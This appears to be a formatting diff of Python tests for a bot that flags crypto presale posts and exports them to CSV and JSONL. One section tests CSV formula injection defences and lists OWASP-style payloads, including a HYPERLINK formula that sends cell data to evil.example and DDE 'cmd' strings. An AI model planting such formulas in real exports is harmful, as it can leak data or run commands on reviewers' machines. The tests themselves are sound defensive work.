@@ -25,8 +25,12 @@ def make_db(tmp_path):
     storage = Storage.open(tmp_path / "bot.db", clock=lambda: now[0])
 
     def scan(chat, mid, text, title, username=None, date=None):
-        storage.record_scan(Post(chat, mid, text, date=date, chat_type="channel", chat_title=title, chat_username=username),
-                            CLF.predict(text), threshold=0.8, store_benign_text=False)
+        storage.record_scan(
+            Post(chat, mid, text, date=date, chat_type="channel", chat_title=title, chat_username=username),
+            CLF.predict(text),
+            threshold=0.8,
+            store_benign_text=False,
+        )
 
     scan(-1001111111111, 5, "Presale of $OLD ends", "Old Gems", date=NOW - 10 * DAY)
     now[0] = NOW - DAY
@@ -54,8 +58,10 @@ def jsonl_of(storage, **filters) -> list[dict]:
 
 def strict_json(line: str):
     """json.loads that refuses what is not JSON but Python writes anyway (NaN, Infinity)."""
+
     def refuse(constant):
         raise ValueError(f"not JSON: {constant}")
+
     return json.loads(line, parse_constant=refuse)
 
 
@@ -63,13 +69,39 @@ def test_rows_have_the_columns_and_values(tmp_path):
     make_db(tmp_path)
     storage = Storage.open(tmp_path / "bot.db")
     table = list(csv.DictReader(io.StringIO(csv_of(storage))))
-    assert list(table[0]) == ["chat_id", "chat_title", "message_id", "link", "date", "label", "score", "status",
-                              "reviewed_by", "reviewed_at", "reasons", "text"] == EXPORT_COLUMNS
+    assert (
+        list(table[0])
+        == [
+            "chat_id",
+            "chat_title",
+            "message_id",
+            "link",
+            "date",
+            "label",
+            "score",
+            "status",
+            "reviewed_by",
+            "reviewed_at",
+            "reasons",
+            "text",
+        ]
+        == EXPORT_COLUMNS
+    )
     first, relabelled, false_positive = table
-    assert first | {} == {"chat_id": "-1001111111111", "chat_title": "Old Gems", "message_id": "5",
-                          "link": "https://t.me/c/1111111111/5", "date": "2024-06-23T09:46:40+00:00", "label": "ico",
-                          "score": "0.97", "status": "pending", "reviewed_by": "", "reviewed_at": "",
-                          "reasons": "presale; pre", "text": "Presale of $OLD ends"}
+    assert first | {} == {
+        "chat_id": "-1001111111111",
+        "chat_title": "Old Gems",
+        "message_id": "5",
+        "link": "https://t.me/c/1111111111/5",
+        "date": "2024-06-23T09:46:40+00:00",
+        "label": "ico",
+        "score": "0.97",
+        "status": "pending",
+        "reviewed_by": "",
+        "reviewed_at": "",
+        "reasons": "presale; pre",
+        "text": "Presale of $OLD ends",
+    }
     assert (relabelled["label"], relabelled["status"], relabelled["reviewed_by"]) == ("ico", "relabelled", "112")
     assert relabelled["link"] == "https://t.me/signals/7"
     assert (false_positive["status"], false_positive["reviewed_by"]) == ("false_positive", "Mia Mod (111)")
@@ -77,7 +109,10 @@ def test_rows_have_the_columns_and_values(tmp_path):
     # JSONL keeps the types and the reasons as a list.
     rows = jsonl_of(storage)
     assert [(r["chat_id"], r["message_id"], r["score"]) for r in rows] == [
-        (-1001111111111, 5, 0.97), (-1002222222222, 7, 0.95), (-1002222222222, 8, 0.93)]
+        (-1001111111111, 5, 0.97),
+        (-1002222222222, 7, 0.95),
+        (-1002222222222, 8, 0.93),
+    ]
     assert rows[1]["reasons"] == ["vip signals", "vip"] and rows[0]["reviewed_by"] is None
     assert list(rows[0]) == EXPORT_COLUMNS
     # The filters: status, label, the post's date.
@@ -103,9 +138,20 @@ def unrenderable_db(path):
     reasons no exporter can render, one per row."""
     storage = Storage.open(path, clock=lambda: NOW)
     for mid in range(1, 11):
-        storage.record_scan(Post(-1001111111111, mid, f"Presale number {mid}", date=NOW - mid, chat_type="channel",
-                                 chat_title="Gems", chat_username="gems"), CLF.predict("presale"), threshold=0.8,
-                            store_benign_text=False)
+        storage.record_scan(
+            Post(
+                -1001111111111,
+                mid,
+                f"Presale number {mid}",
+                date=NOW - mid,
+                chat_type="channel",
+                chat_title="Gems",
+                chat_username="gems",
+            ),
+            CLF.predict("presale"),
+            threshold=0.8,
+            store_benign_text=False,
+        )
     flags = {f["message_id"]: f for f in storage.all_flags()}
     with storage.transaction():
         for mid, value in UNRENDERABLE_DATES.items():
@@ -114,8 +160,11 @@ def unrenderable_db(path):
         storage.db.execute("UPDATE flags SET score = 'high' WHERE id = ?", [flags[9]["id"]])
         storage.db.execute("UPDATE flags SET reasons = 'not JSON [' WHERE id = ?", [flags[10]["id"]])
         # The review log only grows: an impossible review time arrives as a new row.
-        storage.db.execute("""INSERT INTO reviews (flag_id, reviewer_id, reviewer_name, decision, old_label, new_label, at)
-                              VALUES (?, 111, 'Mia Mod', 'confirm', 'ico', 'ico', 1e300)""", [flags[1]["id"]])
+        storage.db.execute(
+            """INSERT INTO reviews (flag_id, reviewer_id, reviewer_name, decision, old_label, new_label, at)
+                              VALUES (?, 111, 'Mia Mod', 'confirm', 'ico', 'ico', 1e300)""",
+            [flags[1]["id"]],
+        )
     return storage
 
 
@@ -149,17 +198,27 @@ def test_the_first_and_last_second_a_date_can_show_are_rendered(tmp_path):
 # -- finding 5: CSV formula injection -----------------------------------------------------------------------
 
 # OWASP, "CSV Injection": a spreadsheet reads a cell that begins with one of these as a formula.
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", "\n=1+2"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+2",
+    "\n=1+2",
+]
 
 
 def hostile_db(path):
     """One flag per formula, each in its post's text, its chat's title and its reviewer's name."""
     storage = Storage.open(path, clock=lambda: NOW)
     for mid, formula in enumerate(FORMULAS, 1):
-        outcome = storage.record_scan(Post(-1001111111111 - mid, mid, f"{formula} presale", date=NOW, chat_type="channel",
-                                           chat_title=formula), CLF.predict("presale"), threshold=0.8,
-                                      store_benign_text=False)
+        outcome = storage.record_scan(
+            Post(-1001111111111 - mid, mid, f"{formula} presale", date=NOW, chat_type="channel", chat_title=formula),
+            CLF.predict("presale"),
+            threshold=0.8,
+            store_benign_text=False,
+        )
         storage.record_review(outcome.alert_id, "confirm", None, 111, formula)
     return storage
 
@@ -188,8 +247,12 @@ def test_a_separator_inside_a_text_cannot_start_a_new_cell(tmp_path):
     """OWASP: the field separator matters too. A spreadsheet set to split on ';' (most of Europe) must not
     see `x;=1+2` as two cells: every text cell is quoted, and numbers stay bare."""
     storage = Storage.open(tmp_path / "bot.db", clock=lambda: NOW)
-    storage.record_scan(Post(-1001111111111, 1, "presale;=1+2,=3+4\t@x", date=NOW, chat_type="channel",
-                             chat_title="Gems;=1+2"), CLF.predict("presale"), threshold=0.8, store_benign_text=False)
+    storage.record_scan(
+        Post(-1001111111111, 1, "presale;=1+2,=3+4\t@x", date=NOW, chat_type="channel", chat_title="Gems;=1+2"),
+        CLF.predict("presale"),
+        threshold=0.8,
+        store_benign_text=False,
+    )
     header, line = csv_of(storage).splitlines()
     assert line.startswith('-1001111111111,"Gems;=1+2",1,')
     assert line.endswith(',"presale; pre","presale;=1+2,=3+4\t@x"')
